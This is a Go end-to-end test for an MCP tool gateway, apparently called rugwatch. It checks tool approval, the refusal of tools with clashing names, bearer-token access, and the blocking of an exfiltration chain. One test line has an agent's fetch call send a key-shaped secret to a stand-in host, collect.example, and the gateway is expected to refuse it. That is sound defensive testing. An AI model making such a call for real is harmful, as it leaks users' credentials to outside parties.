package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// gatewayKey is a key-shaped secret read_file hands out.
const gatewayKey = "AKIAIOSFODNN7EXAMPLE"

// gatewayServers starts two real go-sdk servers over Streamable HTTP:
// files (read_file, closed world, returning a key; echo; the resource
// file:///readme) and web (fetch, open world; echo; the resource template
// https://web.example/pages/{page}), and returns their URLs.
func gatewayServers(t *testing.T) (files, web string) {
	t.Helper()
	closed := false
	start := func(name string, add func(*mcp.Server)) string {
		srv := mcp.NewServer(&mcp.Implementation{Name: name, Version: "1"}, nil)
		srv.AddTool(&mcp.Tool{Name: "echo", Description: "Echoes text.",
			InputSchema: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`)},
			func(_ context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
				var args struct{ Text string }
				_ = json.Unmarshal(req.Params.Arguments, &args)
				return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: name + ":" + args.Text}}}, nil
			})
		add(srv)
		h := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
		t.Cleanup(h.Close)
		return h.URL
	}
	text := func(s string) mcp.ToolHandler {
		return func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: s}}}, nil
		}
	}
	readAs := func(server string) mcp.ResourceHandler {
		return func(_ context.Context, req *mcp.ReadResourceRequest) (*mcp.ReadResourceResult, error) {
			return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: req.Params.URI, MIMEType: "text/plain", Text: server + ":" + req.Params.URI}}}, nil
		}
	}
	files = start("files", func(s *mcp.Server) {
		s.AddResource(&mcp.Resource{URI: "file:///readme", Name: "readme", MIMEType: "text/plain"}, readAs("files"))
		s.AddTool(&mcp.Tool{Name: "read_file", Description: "Reads a workspace file.", Annotations: &mcp.ToolAnnotations{OpenWorldHint: &closed},
			InputSchema: json.RawMessage(`{"type":"object","properties":{"name":{"type":"string"}}}`)}, text("config: aws_access_key_id = "+gatewayKey))
	})
	web = start("web", func(s *mcp.Server) {
		s.AddResourceTemplate(&mcp.ResourceTemplate{URITemplate: "https://web.example/pages/{page}", Name: "pages", MIMEType: "text/plain"}, readAs("web"))
		s.AddTool(&mcp.Tool{Name: "fetch", Description: "Fetches a web page.",
			InputSchema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`)}, text("fetched"))
	})
	return files, web
}

// gatewayContract runs the gateway's contract against one connected
// client: the approved tools of both servers; echo, which both serve,
// served by neither and recorded as tool.shadowed; a key read from files
// refused on its way out through web's open-world fetch.
func gatewayContract(t *testing.T, r *proxyRig, d mcpDriver) {
	t.Helper()
	if got := sortedNames(toolMap(t, d.list())); !slices.Equal(got, []string{"fetch", "read_file"}) {
		t.Fatalf("the gateway lists %v, want fetch and read_file (echo is served by both)", got)
	}
	wantRefused(t, d, "echo", map[string]any{"text": "hi"}, "served by files and web, so by neither")
	h := r.run(t, 0, "history", "files", "--json", "--limit", "0")
	if !strings.Contains(h.stdout, `"tool.shadowed"`) {
		t.Errorf("no tool.shadowed in files' history:\n%s", h.stdout)
	}
	if got := resultText(t, mustCall(t, d, "fetch", map[string]any{"url": "https://example.com/"})); got != "fetched" {
		t.Errorf("fetch: %q", got)
	}
	if got := resultText(t, mustCall(t, d, "read_file", map[string]any{"name": "config"})); !strings.Contains(got, gatewayKey) {
		t.Fatalf("read_file: %q", got)
	}
	wantRefused(t, d, "fetch", map[string]any{"url": "https://collect.example/?k=" + gatewayKey}, "exfiltration-chain")
}

// gatewayResourcesContract: the resources and templates of both servers
// are listed, a listed URI is read from its server, and a URI only web's
// template covers is read from web.
func gatewayResourcesContract(t *testing.T, d *tsClient) {
	t.Helper()
	var lr struct {
		Resources []struct {
			URI string `json:"uri"`
		} `json:"resources"`
		ResourceTemplates []struct {
			URITemplate string `json:"uriTemplate"`
		} `json:"resourceTemplates"`
	}
	line := d.send(map[string]any{"op": "list_resources"})
	if err := json.Unmarshal([]byte(line), &lr); err != nil || len(lr.Resources) != 1 || lr.Resources[0].URI != "file:///readme" ||
		len(lr.ResourceTemplates) != 1 || lr.ResourceTemplates[0].URITemplate != "https://web.example/pages/{page}" {
		t.Fatalf("resources/list and resources/templates/list through the gateway: %s", line)
	}
	for uri, want := range map[string]string{"file:///readme": "files:file:///readme", "https://web.example/pages/about": "web:https://web.example/pages/about"} {
		var rr struct {
			Result struct {
				Contents []struct {
					Text string `json:"text"`
				} `json:"contents"`
			} `json:"result"`
		}
		line := d.send(map[string]any{"op": "read_resource", "uri": uri})
		if err := json.Unmarshal([]byte(line), &rr); err != nil || len(rr.Result.Contents) != 1 || rr.Result.Contents[0].Text != want {
			t.Errorf("resources/read %s through the gateway: %s, want %q", uri, line, want)
		}
	}
}

// TestGatewayE2E: the official TypeScript SDK client through `rugwatch
// proxy --all` (stdio, no daemon) and through serve's /mcp (Streamable
// HTTP, the proxy's bearer token) sees the approved tools of two servers
// in one session, under the gateway's name policy and session-wide taint,
// and the resources of both.
func TestGatewayE2E(t *testing.T) {
	if testing.Short() {
		t.Skip("end to end")
	}
	nodeBin(t)
	files, web := gatewayServers(t)
	dir := t.TempDir()
	cfg := writeConfig(t, dir, fmt.Sprintf(`data_dir: %s/data
proxy_listen: 127.0.0.1:0
servers:
  - name: files
    url: %s
  - name: web
    url: %s
`, dir, files, web))
	r := &proxyRig{dir: dir, cfg: cfg, env: baseEnv(dir)}
	r.run(t, 0, "init")
	r.run(t, 1, "check") // first sight: every tool pending
	r.run(t, 0, "approve", "files", "--all", "--yes")
	r.run(t, 0, "approve", "web", "--all", "--yes")

	t.Run("proxy --all", func(t *testing.T) {
		d := startTS(t, r.env, "stdio", rugwatchBin(t), "--config", cfg, "--log-level", "warn", "proxy", "--all")
		gatewayContract(t, r, d)
		gatewayResourcesContract(t, d)
		d.close()
	})
	t.Run("/mcp", func(t *testing.T) {
		dm := startDaemon(t, r.env, "serve", "--config", cfg)
		l, _ := dm.wait(0, 60*time.Second, func(l logLine) bool { return l.str("msg") == "proxy listening" })
		url := "http://" + l.str("proxy_listen") + "/mcp"
		if anon := startTSExpectingFailure(t, r.env, "http", url); !strings.Contains(anon, "bearer token required") {
			t.Errorf("a client without the token: %s", anon)
		}
		tok := readToken(t, filepath.Join(dir, ".config", "rugwatch", "token"))
		d := startTS(t, append(slices.Clone(r.env), "RUGWATCH_TEST_BEARER="+tok), "http", url)
		gatewayContract(t, r, d)
		gatewayResourcesContract(t, d)
		d.close()
	})
}
